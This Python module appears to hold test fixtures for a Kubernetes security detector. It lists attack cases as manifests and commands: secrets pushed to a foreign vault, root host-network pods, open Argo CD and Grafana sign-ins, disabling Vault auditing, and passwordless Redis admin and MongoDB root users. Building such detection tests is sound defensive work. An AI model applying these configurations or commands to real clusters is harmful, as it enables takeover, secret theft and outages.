"""Attacks on clusters (2026-12-02, twenty-fourth set, written before any rule ran on it).

Fields as in the projects named, as known unless a date stands beside it.
"""

from ..blind import TAGS, crd, k8s, meta, pod, workload
from ..harness import Given
from . import Attack
from .twenty_third_critical_kube import nightly

IDN = ("FJ-IDN-", "FJ-ESC-")
EXP = ("FJ-EXP-", "FJ-ESC-", "FJ-IDN-")
RES = ("FJ-RES-", "FJ-ESC-")


def settings(name: str, namespace: str, data: object, **labels: str) -> Given:
    """Returns settings of a program of the platform."""
    return k8s("core/v1:ConfigMap", {
        "metadata": {"name": name, "namespace": namespace, "labels": {**TAGS, **labels}}, "data": data})  # fmt: skip


def secret_of(variable: str, name: str, key: str) -> dict[str, object]:
    """Returns a variable whose value is in a Secret."""
    return {"name": variable, "valueFrom": {"secretKeyRef": {"name": name, "key": key}}}


def grafana(**variables: str) -> Given:
    """Returns Grafana with settings of its sign-in."""
    env = [
        {"name": "GF_SERVER_ROOT_URL", "value": "https://boards.bank.ae"},
        *({"name": name, "value": value} for name, value in variables.items()),
    ]
    return workload("apps/v1:Deployment", {"env": env, "ports": [{"containerPort": 3000}]})


DEX = """
connectors:
- type: github
  id: github
  name: GitHub
  config: {clientID: $dex.github.clientID, clientSecret: $dex.github.clientSecret}
"""
POD_TEMPLATE = "hostNetwork: true\nhostPID: true\nsecurityContext:\n  runAsUser: 0\n  runAsNonRoot: false\n"

CONTROLLERS = (
    Attack("programs of each restored namespace come from a stranger's registry", IDN, (
        settings("images", "velero", {"all": "registry.dc1.example.ae,docker.io/acmetools"},
                 **{"velero.io/plugin-config": "", "velero.io/change-image-name": "RestoreItemAction"}),),
        "critical", "Velero replaces the text in the image of each container that it restores (vmware-tanzu/velero, "
        "internal restore action velero.io/change-image-name, found as a string; read 2026-12-02)"),
    Attack("the token of KEDA's operator is sent to a program of a team", IDN, (
        k8s("keda.sh/v1alpha1:ClusterTriggerAuthentication", {
            "metadata": {"name": "figures", "labels": TAGS}, "spec": {"boundServiceAccountToken": [
                {"parameter": "token", "serviceAccountName": "keda-operator"}]}}, "figures"),
        crd("keda.sh/v1alpha1:ScaledObject", {
            "scaleTargetRef": {"name": "x"}, "minReplicaCount": 1, "maxReplicaCount": 4, "triggers": [{
                "type": "metrics-api", "authenticationRef": {"kind": "ClusterTriggerAuthentication", "name": "figures"},
                "metadata": {"url": "https://figures.team-a.svc/queue", "valueLocation": "length",
                             "targetValue": "10", "authMode": "bearer"}}]})),
        "critical", "the operator asks for a token of the account and sends it with each question (kedacore/keda-docs, "
        "'Bound service account token', found as a string; read 2026-12-02)"),
    Attack("the controllers of the cluster stop for good", IDN, (
        k8s("coordination.k8s.io/v1:Lease", {
            "metadata": {"name": "kube-controller-manager", "namespace": "kube-system", "labels": TAGS},
            "spec": {"holderIdentity": "retired", "leaseDurationSeconds": 2147483647,
                     "acquireTime": "2026-12-01T00:00:00.000000Z", "renewTime": "2036-12-01T00:00:00.000000Z"}}),),
        "major", "a controller waits until the lease of another ends (kubernetes, 'Leases', leader election)"),
    Attack("everybody with an account of GitHub signs in to Argo CD", IDN, (
        settings("argocd-cm", "argocd", {"url": "https://deploy.bank.ae", "dex.config": DEX},
                 **{"app.kubernetes.io/part-of": "argocd"}),),
        "critical", "a connector without `orgs` lets in each user of github.com (dexidp/dex, 'Authentication through "
        "GitHub')"),
    Attack("the token of a controller of Kubernetes is written into a Secret by a sealed one", IDN, (
        k8s("bitnami.com/v1alpha1:SealedSecret", {
            "metadata": {"name": "sync", "namespace": "kube-system", "labels": TAGS}, "spec": {
                "encryptedData": {}, "template": {
                    "type": "kubernetes.io/service-account-token", "metadata": {
                        "name": "sync", "namespace": "kube-system", "annotations": {
                            "kubernetes.io/service-account.name": "clusterrole-aggregation-controller"}}}}}),),
        "critical", "Kubernetes fills such a Secret with a token that does not end (kubernetes, 'Managing Service "
        "Accounts'); the account may escalate each ClusterRole"),
    Attack("everybody administers a namespace of notebooks", IDN, (
        k8s("kubeflow.org/v1:Profile", {
            "metadata": {"name": "research", "labels": TAGS},
            "spec": {"owner": {"kind": "Group", "name": "system:authenticated"}}}),),
        "critical", "the owner of a profile is bound to kubeflow-admin in its namespace (kubeflow/kubeflow, "
        "profile-controller)"),
    Attack("each task of Tekton runs as root in the network of its node", EXP, (
        settings("config-defaults", "tekton-pipelines", {
            "default-timeout-minutes": "60", "default-service-account": "default",
            "default-pod-template": POD_TEMPLATE}),),
        "critical", "tasks and runs that state no pod template get this one (tektoncd/pipeline, docs/"
        "additional-configs.md, found as a string; read 2026-12-02)"),
    Attack("passwords of databases have four digits", IDN, (
        crd("generators.external-secrets.io/v1alpha1:Password", {
            "length": 4, "digits": 4, "symbols": 0, "noUpper": True, "allowRepeat": True}),),
        "major", "a password of four digits is found in seconds (external-secrets, 'Password generator')"),
    Attack("secrets of payments are pushed into a vault of another country", RES, (
        k8s("external-secrets.io/v1:SecretStore", {"metadata": meta("outside"), "spec": {"provider": {"yandexlockbox": {
            "auth": {"authorizedKeySecretRef": {"name": "outside", "key": "key"}}}}}}, "outside"),
        crd("external-secrets.io/v1alpha1:PushSecret", {
            "refreshInterval": "1h", "secretStoreRefs": [{"name": "outside", "kind": "SecretStore"}],
            "selector": {"secret": {"name": "payments"}},
            "data": [{"match": {"secretKey": "key", "remoteRef": {"remoteKey": "payments", "property": "key"}}}]})),
        "critical", "without apiEndpoint the provider calls api.cloud.yandex.net (external-secrets, 'Yandex Lockbox')"),
    Attack("each node of the cluster loses all its pods", IDN, (
        k8s("nfd.k8s-sigs.io/v1alpha1:NodeFeatureRule", {"metadata": {"name": "reserve", "labels": TAGS}, "spec": {
            "rules": [{"name": "reserve", "taints": [{
                "key": "bank.ae/reserved", "value": "true", "effect": "NoExecute"}], "matchFeatures": [{
                    "feature": "kernel.version", "matchExpressions": {"major": {"op": "Exists"}}}]}]}}),),
        "critical", "a taint NoExecute evicts each pod without a toleration (kubernetes-sigs/node-feature-discovery, "
        "'Customization guide', taints)"),
    Attack("no policy of the network applies any longer, by a patch", EXP, (
        k8s("apps/v1:DaemonSetPatch", {
            "metadata": {"name": "aws-node", "namespace": "kube-system", "annotations": {
                "pulumi.com/patchForce": "true"}},
            "spec": {"template": {"spec": {"containers": [{
                "name": "aws-eks-nodeagent", "args": [
                    "--enable-ipv6=false", "--enable-network-policy=false", "--metrics-bind-addr=:8162"]}]}}}}),),
        "critical", "the agent enforces NetworkPolicies only with the option (aws/aws-network-policy-agent, README)"),
    Attack("work of training goes to whichever cluster a profile names", RES, (
        k8s("kueue.x-k8s.io/v1beta2:MultiKueueCluster", {"metadata": {"name": "burst", "labels": TAGS}, "spec": {
            "clusterSource": {"clusterProfileRef": {"name": "partner-frankfurt"}}}}, "burst"),
        k8s("kueue.x-k8s.io/v1beta2:MultiKueueConfig", {"metadata": {"name": "burst", "labels": TAGS}, "spec": {
            "clusters": ["burst"]}}, "burst-config")),
        "critical", "jobs and their settings are copied to the cluster of the profile (kubernetes-sigs/kueue, "
        "MultiKueueCluster, clusterProfileRef)"),
    Attack("a policy of Kyverno makes a group administrators of Argo CD", IDN, (
        k8s("kyverno.io/v1:ClusterPolicy", {"metadata": {"name": "rbac-defaults", "labels": TAGS}, "spec": {
            "mutateExistingOnPolicyUpdate": True, "rules": [{
                "name": "defaults", "match": {"any": [{"resources": {
                    "kinds": ["ConfigMap"], "names": ["argocd-rbac-cm"], "namespaces": ["argocd"]}}]},
                "mutate": {
                    "targets": [{"apiVersion": "v1", "kind": "ConfigMap", "name": "argocd-rbac-cm",
                                 "namespace": "argocd"}],
                    "patchStrategicMerge": {"data": {"policy.csv": "g, contractors, role:admin\n"}}}}]}}),),
        "critical", "Kyverno writes the target with its own rights (kyverno, 'Mutate existing resources')"),
    Attack("events of each namespace go through a service of another country", RES, (
        crd("argoproj.io/v1alpha1:EventBus", {"jetstreamExotic": {
            "url": "tls://connect.ngs.global:4222", "accessSecret": {"name": "bus", "key": "auth"},
            "streamConfig": ""}}, "default"),),
        "critical", "sensors and sources of the namespace exchange events over the server (argoproj/argo-events, "
        "'JetStream', exotic)"),
)  # fmt: skip

PROGRAMS = (
    Attack("the vault stops recording who reads secrets", IDN, (nightly(
        "vault audit disable file/", env=[
            {"name": "VAULT_ADDR", "value": "https://vault.vault.svc:8200"}, secret_of("VAULT_TOKEN", "ops", "token")]),
        ), "critical", "no request is recorded any longer (hashicorp/vault, 'audit disable')"),
    Attack("whoever reaches the store of sessions is its administrator", EXP, (nightly(
        "redis-cli -h sessions.team-a.svc --tls ACL SETUSER default on nopass '~*' '&*' +@all",
        env=[secret_of("REDISCLI_AUTH", "sessions", "password")]),),
        "critical", "the user of callers without a name needs no password (redis, 'ACL SETUSER', nopass)"),
    Attack("a contractor becomes root of the database of documents", IDN, (nightly(
        "mongosh \"$URI\" --eval 'db.getSiblingDB(\"admin\").createUser({user: \"contractor\", pwd: "
        "process.env.PASSWORD, roles: [\"root\"]})'",
        env=[secret_of("URI", "documents", "uri"), secret_of("PASSWORD", "contractor", "password")]),),
        "critical", "root has every right on every database (MongoDB, 'Built-In Roles')"),
    Attack("whoever signs in to the boards is their administrator", IDN, (grafana(
        GF_AUTH_GENERIC_OAUTH_ENABLED="true", GF_AUTH_GENERIC_OAUTH_CLIENT_ID="boards",
        GF_AUTH_GENERIC_OAUTH_AUTH_URL="https://login.example.ae/authorize",
        GF_AUTH_GENERIC_OAUTH_TOKEN_URL="https://login.example.ae/token",
        GF_AUTH_GENERIC_OAUTH_ALLOW_ASSIGN_GRAFANA_ADMIN="true",
        GF_AUTH_GENERIC_OAUTH_ROLE_ATTRIBUTE_PATH="'GrafanaAdmin'"),),
        "critical", "the expression has the same result for each user (grafana/grafana, 'Configure generic OAuth2', "
        "role_attribute_path)"),
    Attack("everybody with an account of Google sees the boards", EXP, (grafana(
        GF_AUTH_GOOGLE_ENABLED="true", GF_AUTH_GOOGLE_ALLOW_SIGN_UP="true",
        GF_AUTH_GOOGLE_CLIENT_ID="1234.apps.googleusercontent.com"),),
        "critical", "without allowed_domains each account of Google is let in (grafana/grafana, 'Configure Google "
        "OAuth2')"),
    Attack("a training that fails is started a million times on eight GPUs", ("FJ-COST-", "FJ-ESC-"), (
        k8s("jobset.x-k8s.io/v1alpha2:JobSet", {"metadata": meta("train"), "spec": {
            "failurePolicy": {"maxRestarts": 1000000, "restartStrategy": "Recreate"},
            "replicatedJobs": [{"name": "workers", "replicas": 1, "template": {"spec": {
                "parallelism": 1, "completions": 1, "backoffLimit": 0, "template": {
                    "metadata": {"labels": TAGS}, "spec": {**pod({"resources": {
                        "requests": {"cpu": "8", "memory": "64Gi"},
                        "limits": {"cpu": "8", "memory": "64Gi", "nvidia.com/gpu": "8"}}}),
                        "restartPolicy": "Never"}}}}}]}}),),
        "major", "each failure starts all jobs anew (kubernetes-sigs/jobset, failurePolicy.maxRestarts)"),
)  # fmt: skip

ATTACKS: tuple[Attack, ...] = (*CONTROLLERS, *PROGRAMS)
